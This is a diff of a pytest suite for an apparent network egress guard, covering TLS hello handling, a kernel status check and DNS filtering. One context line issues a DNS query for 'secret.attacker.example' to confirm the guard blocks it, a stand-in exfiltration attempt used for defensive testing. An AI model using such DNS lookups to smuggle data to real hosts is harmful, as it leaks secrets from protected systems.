@@ -392,7 +392,7 @@ def pieces(guard, data, step, pause, address=ADDRESS):
 
 
 @pytest.mark.parametrize("size,step,pause", [(0, 1, 0), (0, 100, 0.05), (1500, 700, 0.2), (4000, 1000, 0.1), (0, 5, 0.01), (1500, 900, 2)])
-def test_split_hello_is_held_until_whole(guard, size, step, pause):
+def test_split_hello_is_held_until_its_name_is_known(guard, size, step, pause):
     """22 or 21: the server answers with a handshake or an alert, so it got the hello."""
     mark = guard.lab.wire.mark()
     data = hello(ALLOWED, size)
@@ -421,6 +421,11 @@ except OSError as e:
 """
     assert guard.python(code, frame(query("secret.attacker.example")).hex()).stdout == "ETIMEDOUT\n"
     assert {e["reason"] for e in guard.events()} == {"dns-name-not-allowed"}
+
+
+def test_this_kernel_shows_which_pages_can_change(guard):
+    """Where one does not, status says so: see tests/vm/cases/initramfs-lockdown.sh."""
+    assert json.loads(guard.ohguard("status", "--json").stdout)["notes"] == []
 
 
 def test_quick_error_comes_and_goes_with_inspect(guard):
